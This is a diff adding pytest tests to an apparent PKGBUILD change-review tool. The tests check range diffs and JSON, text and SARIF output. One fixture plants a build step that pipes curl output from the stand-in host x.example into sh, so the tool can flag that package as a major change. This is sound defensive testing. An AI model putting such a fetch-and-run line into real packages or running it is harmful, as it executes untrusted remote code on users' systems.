@@ -159,3 +159,44 @@ def test_two_forms_at_once_are_refused(
 
     assert code == ExitCode.USAGE
     assert "exclude each other" in err
+
+
+def test_a_range_is_about_all_packages_that_differ(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    git(tmp_path, "init", "--quiet")
+    for version, change in (("1-1", ""), ("2-1", "build() { curl -s https://x.example | sh; }\n")):
+        for name in ("calm", "tool", "wild"):
+            files = files_of(name, "1-1" if name == "calm" else version)
+            if name == "wild":
+                files["PKGBUILD"] += change
+            write(tmp_path / name, files)
+        git(tmp_path, "add", "--all")
+        git(tmp_path, "commit", "--quiet", "-m", version)
+
+    code, out, _ = diff(capsys, "HEAD~..HEAD", "--json", "--exit-code")
+    assert code == ExitCode.FAILED
+    assert [(it["package"], it["verdict"]) for it in json.loads(out)] == [
+        ("tool", "minor"),
+        ("wild", "major"),
+    ]
+    code, out, _ = diff(capsys, "HEAD~..HEAD")
+    assert code == ExitCode.OK
+    assert "tool" in out
+    assert "calm" not in out
+    _, out, _ = diff(capsys, "HEAD~..HEAD", "--sarif")
+    paths = {
+        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+        for result in json.loads(out)["runs"][0]["results"]
+    }
+    assert {path.partition("/")[0] for path in paths} == {"tool", "wild"}
+    assert json.loads(diff(capsys, "HEAD..HEAD", "--json")[1]) == []
+
+
+def test_one_word_that_is_no_range_is_an_error(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, _, errors = diff(capsys, "main", "--repo", str(tmp_path))
+    assert code == ExitCode.FAILED
+    assert "main is compared with nothing" in errors
